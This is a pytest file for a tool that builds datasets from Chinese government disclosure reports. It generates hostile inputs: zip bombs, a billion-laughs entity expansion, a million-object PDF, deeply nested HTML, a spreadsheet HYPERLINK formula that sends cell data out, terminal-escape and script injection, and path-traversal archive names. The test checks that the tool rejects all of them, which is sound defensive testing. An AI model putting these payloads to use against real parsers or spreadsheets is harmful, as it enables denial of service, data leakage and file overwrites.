"""Files that mean harm, as members of an archive and as records of a crawl: each costs a row, and none is obeyed."""

from __future__ import annotations

import html
import io
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest

import gongkai
from generators.crawls import Answer, crawl
from test_cli import OBEYED, run

__all__ = ["run"]

TITLE = "嘉禾县2017年政府信息公开年度报告"
TEXT = "<p>一、概述</p><p>二、主动公开政府信息情况</p><p>全年主动公开政府信息{number}条。</p>"
ODD = "\x1b]0;owned\x07[red]x[/red][link=http://example.org]y[/link]\u202e<script>alert(1)</script>"
RAW = Path(__file__).parents[1] / "data" / "raw" / "jiahe-2017.html"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"7")'


def page(number: int, more: str = "") -> bytes:
    """Give a report that no other one equals."""
    return f"<meta charset=utf-8><title>{TITLE}</title><h1>{TITLE}</h1>{TEXT.format(number=number)}{more}".encode()


def with_cell(printed: str) -> bytes:
    """Give a report with something else in a cell of its table."""
    text = RAW.read_text(encoding="utf-8")
    assert "<td>47</td>" in text
    return text.replace("<td>47</td>", f"<td>{html.escape(printed)}</td>", 1).encode()


def packed(members: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


def word(body: str, before: str = "") -> bytes:
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override '
        'PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.'
        'document.main+xml"/></Types>'
    )
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="word/document.xml"/></Relationships>'
    )
    document = (
        f'<?xml version="1.0"?>{before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        f'main"><w:body><w:p><w:r><w:t>{TITLE}{body}</w:t></w:r></w:p></w:body></w:document>'
    )
    parts = {"[Content_Types].xml": types, "_rels/.rels": relations, "word/document.xml": document}
    return packed({name: text.encode() for name, text in parts.items()})


def far_cells() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active["A1"], workbook.active["XFD1048576"] = TITLE, 7
    file = io.BytesIO()
    workbook.save(file)
    return file.getvalue()


def million_objects() -> bytes:
    """Give a PDF with a stream of a million objects; its table of places is left out, so that all are looked at."""
    heads = " ".join(f"{number} {2 * place}" for place, number in enumerate(range(10, 1_000_010)))
    stream = zlib.compress(f"{heads} {'0 ' * 1_000_000}".encode())
    head = f"<</Type/ObjStm/N 1000000/First {len(heads) + 1}/Filter/FlateDecode/Length {len(stream)}>>"
    return (
        b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj\n"
        b"4 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        + f"3 0 obj{head}stream\n".encode()
        + stream
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    )


def laughs() -> str:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(12))
    return f"<!DOCTYPE d [{entities}]>"


HOSTILE: dict[str, tuple[bytes, str | None]] = {
    "bomb.docx": (word(" " * (80 << 20)), "too_large"),
    "bomb-in-bomb.zip": (packed({"a.zip": packed({"a.html": bytes(80 << 20)})}), "too_large"),
    "laughs.docx": (word("&a11;", laughs()), "damaged"),
    "far.xlsx": (far_cells(), "too_large"),
    "objects.pdf": (million_objects(), "empty"),
    "nested.html": (page(21, "<div><table><tr><td>" * 50_000), "too_large"),
    "spans.html": (page(22, "<table><tr>" + "<td colspan=1000 rowspan=65534>7" * 500), None),
    "formula.html": (with_cell(FORMULA), None),
    "markup.html": (with_cell(ODD), None),
    "../../../outside.html": (page(25), None),
    "/root.html": (page(26), None),
}
"""Files by their names: the bytes, and the reason for which they give no report; None where they are one."""


def as_archive(folder: Path) -> Path:
    (folder / "all.zip").write_bytes(packed({name: data for name, (data, _) in HOSTILE.items()}))
    return folder / "all.zip"


def as_crawl(folder: Path) -> Path:
    answers = [Answer(f"http://www.example.gov.cn/{name}", data) for name, (data, _) in HOSTILE.items()]
    (folder / "all.warc.gz").write_bytes(crawl(answers))
    return folder / "all.warc.gz"


@pytest.mark.slow
@pytest.mark.parametrize("made", [as_archive, as_crawl])
def test_what_means_harm_costs_its_own_row(run, tmp_path, made):  # type: ignore[no-untyped-def]
    place = tmp_path / "work" / "in" / "here"
    place.mkdir(parents=True)
    source = made(place)
    code, printed = run("build", source, "--out", tmp_path / "out", "--workers", "1")
    assert code == 0
    assert not OBEYED.search(printed)
    assert not [path for path in tmp_path.rglob("*") if path.name in ("outside.html", "root.html")]
    reports, failures = gongkai.load("reports", tmp_path / "out"), gongkai.load("failures", tmp_path / "out")
    found = dict.fromkeys(map(named, reports["source"]))
    found |= dict(zip(map(named, failures["source"]), failures["reason"], strict=True))
    assert found == {name: reason for name, (_, reason) in HOSTILE.items()}
    assert gongkai.validate_package(tmp_path / "out") == []
    observations = gongkai.load("observations", tmp_path / "out").set_index("raw")
    cells = observations[observations["status"] == "unreadable"]["value"]
    assert cells.isna().all()
    assert sorted(cells.index)[-1] == FORMULA
    assert "[red]x[/red][link=http://example.org]y[/link]" in sorted(cells.index)[0]


def named(source: str) -> str:
    return next(name for name in HOSTILE if name in source)
